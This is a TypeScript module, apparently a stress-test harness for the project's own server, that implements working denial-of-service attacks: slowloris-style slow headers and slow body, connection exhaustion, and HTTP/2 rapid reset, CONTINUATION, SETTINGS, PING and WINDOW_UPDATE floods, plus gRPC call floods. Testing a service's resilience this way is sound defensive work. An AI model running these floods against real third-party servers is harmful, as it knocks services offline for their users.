// Attacks a server until it is told to stop, within bounds: so many connections, and so many frames a second or calls at once. A
// process of its own.
import { constants } from "node:http2";
import { connect, type Socket } from "node:net";
import {
  continuationFrame,
  dataFrame,
  headersFrame,
  initialWindowSetting,
  isLastOfStream,
  openHeadersFrame,
  pingFrame,
  resetFrame,
  settingsAckFrame,
  settingsFrame,
  takeFrames,
  windowUpdateFrame,
} from "../test/fixtures/http2-frames.ts";
import { rpcPath } from "./calls.ts";

/** What the attacker is told to do; absent: stop. */
export interface Order {
  readonly url?: string;
  readonly attack?: AttackName;
  /** Of who calls, where the attack is calls. */
  readonly token?: string;
}

interface Attack {
  readonly connections: number;
  /** What is sent first on each connection. */
  first(): Uint8Array;
  /** What is sent each time after that, `turn` by turn from 0; absent: nothing. */
  next?(turn: number): Uint8Array;
  /** How often that is. */
  readonly everyMs?: number;
  /** Whether what the server sends is never read. */
  readonly isDeaf?: boolean;
  /** Headers of calls of gRPC, of which 100 wait for their answer on each connection: the next one is sent with each answer. */
  call?(token: string): Readonly<Record<string, string>>;
}

const path = "/management/v1/policies/login";
const request = { ":method": "GET", ":scheme": "http", ":path": path, ":authority": "localhost" };
const start = (settings: readonly (readonly [number, number])[] = []) =>
  Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame(settings), settingsAckFrame]);
const streamOf = (turn: number) => 2 * turn + 1;
const framesAtOnce = 100;

/** On four connections, 40 000 frames a second in all; those that the server ends are opened again a second later. */
const flood = (frame: (turn: number) => Uint8Array, first: Uint8Array = Buffer.alloc(0)): Attack => ({
  connections: 4,
  first: () => Buffer.concat([start(), first]),
  next: (turn) => Buffer.concat(Array.from({ length: framesAtOnce }, (_, i) => frame(turn * framesAtOnce + i))),
  everyMs: 10,
});

const windowUpdates = Buffer.concat(Array.from({ length: 50 }, () => windowUpdateFrame(0, 1)));

const attacks = {
  "idle connections": { connections: 2_000, first: () => Buffer.alloc(0) },
  "slow headers": {
    connections: 500,
    first: () => Buffer.from(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n`),
    next: (turn) => Buffer.from(`X-${turn}: a\r\n`),
    everyMs: 500,
  },
  "slow body": {
    connections: 500,
    first: () => Buffer.from(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n`),
    next: () => Buffer.from(" "),
    everyMs: 500,
  },
  "half-open HTTP/2": { connections: 500, first: () => Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") },
  "HTTP/1.1 that is never read": {
    connections: 50,
    first: () => Buffer.alloc(0),
    next: () => Buffer.from(`GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n`),
    everyMs: 100,
    isDeaf: true,
  },
  "HTTP/2 without a window": {
    connections: 20,
    first: () => start([[initialWindowSetting, 0]]),
    next: (turn) => headersFrame(streamOf(turn), { ...request, ":path": "/openapi.json" }, true),
    everyMs: 20,
  },
  "rapid reset": flood((turn) =>
    Buffer.concat([headersFrame(streamOf(turn), request, true), resetFrame(streamOf(turn), constants.NGHTTP2_CANCEL)]),
  ),
  CONTINUATION: flood(() => continuationFrame(1, { "x-a": "b".repeat(100) }), openHeadersFrame(1, request)),
  SETTINGS: flood(() => settingsFrame()),
  PING: flood(() => pingFrame()),
  WINDOW_UPDATE: flood(() => windowUpdateFrame(0, 1)),
  "WINDOW_UPDATE at full speed": { ...flood(() => windowUpdates), everyMs: 1 },
} as const satisfies Record<string, Attack>;

const callsAtOnce = 100;
const call = (headers: (token: string) => Record<string, string>): Attack => ({
  connections: 20,
  first: () => Buffer.concat([start([[initialWindowSetting, 1_000_000]]), windowUpdateFrame(0, 2 ** 31 - 100_000)]),
  call: (token) => ({
    ...request,
    ":method": "POST",
    ":path": rpcPath("ListLoginPolicySecondFactors"),
    "content-type": "application/grpc",
    te: "trailers",
    ...headers(token),
  }),
});

/** Honest calls, and far too many. */
const busyCallers = {
  "2000 calls of one user at once": call((token) => ({ authorization: `Bearer ${token}` })),
  "2000 calls with a wrong token at once": call(() => ({ authorization: "Bearer wrong" })),
  "2000 health checks at once": call(() => ({ ":path": "/grpc.health.v1.Health/Check" })),
} as const satisfies Record<string, Attack>;

const all: Readonly<Record<string, Attack>> = { ...attacks, ...busyCallers };
export type AttackName = keyof typeof attacks | keyof typeof busyCallers;
export const attackNames = Object.keys(attacks) as readonly AttackName[];
export const busyCallerNames = Object.keys(busyCallers) as readonly AttackName[];

/** Keeps as many calls waiting on a connection as it may. */
function keepCalling(socket: Socket, headers: Readonly<Record<string, string>>): void {
  let turn = 0;
  const calls = (count: number) =>
    Array.from({ length: count }, () => {
      const stream = streamOf(turn++);
      return Buffer.concat([headersFrame(stream, headers), dataFrame(stream, Buffer.alloc(5), true)]);
    });
  socket.write(Buffer.concat(calls(callsAtOnce)));
  let unread: Buffer = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    const { frames, rest } = takeFrames(Buffer.concat([unread, chunk]));
    unread = rest;
    const answered = frames.filter(isLastOfStream).length;
    if (answered > 0) socket.write(Buffer.concat(calls(answered)));
  });
}

/** Begins; returns what ends it. */
function begin({ hostname, port }: URL, attack: Attack, token: string): () => void {
  const { connections, first, next, everyMs, isDeaf } = attack;
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let isOver = false;
  /** A connection that ends is opened again a second later. */
  const open = () => {
    if (isOver) return;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    socket.on("error", () => {});
    if (isDeaf) socket.pause();
    else socket.resume();
    socket.write(first());
    if (attack.call !== undefined) keepCalling(socket, attack.call(token));
    let turn = 0;
    const timer = setInterval(() => {
      if (next !== undefined && socket.writableLength < 1_000_000) socket.write(next(turn++));
    }, everyMs ?? 60_000);
    timers.add(timer);
    socket.once("close", () => {
      clearInterval(timer);
      timers.delete(timer);
      sockets.delete(socket);
      const again = setTimeout(() => {
        timers.delete(again);
        open();
      }, 1_000);
      timers.add(again);
    });
  };
  for (let count = 0; count < connections; count += 1) open();
  return () => {
    isOver = true;
    for (const socket of sockets) socket.resetAndDestroy();
    for (const timer of timers) clearTimeout(timer);
  };
}

if (process.send !== undefined) {
  let stop = () => {};
  process.on("message", ({ url, attack, token = "" }: Order) => {
    stop();
    const wanted = attack && all[attack];
    stop = url === undefined || wanted === undefined ? () => {} : begin(new URL(url), wanted, token);
    process.send?.("done");
  });
  process.on("disconnect", () => process.exit());
}
